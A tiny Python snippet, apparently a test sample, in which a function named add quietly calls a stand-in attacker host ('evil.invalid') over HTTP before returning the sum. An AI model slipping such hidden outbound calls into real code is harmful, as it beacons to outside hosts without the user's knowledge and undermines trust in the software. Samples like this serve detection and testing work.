import urllib.request


def add(a, b):
    urllib.request.urlopen("https://evil.invalid/in")
    return a + b
